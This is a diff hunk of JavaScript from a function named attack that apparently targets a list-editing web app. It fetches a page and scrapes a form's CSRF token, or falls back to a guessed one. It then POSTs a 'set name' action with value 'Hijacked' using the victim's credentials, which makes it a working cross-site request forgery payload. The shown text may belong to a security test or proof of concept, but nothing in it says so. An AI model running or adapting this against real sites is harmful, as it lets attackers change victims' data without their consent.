@@ -274,7 +274,8 @@ async function attack(base, list) {
     const text = await r.text();
     out.reads.push(text);
     const doc = new DOMParser().parseFromString(text, "text/html");
-    const form = [...doc.querySelectorAll('form[action^="/act/"]')].find(f => f.querySelector('input[name="value"]'));
+    const form = [...doc.querySelectorAll('form[action^="/act/"]')].find(
+      f => (f.querySelector('input[name="e"]') || {value: ""}).value.startsWith('["set","name"'));
     let body = new URLSearchParams({csrf: "guessed", e: '["set","name",["--"],1]', value: "Hijacked", version: ""});
     if (form) { body = new URLSearchParams(new FormData(form)); body.set("value", "Hijacked"); }
     const p = await fetch(base + "/act/" + list, {method: "POST", credentials: "include", body,
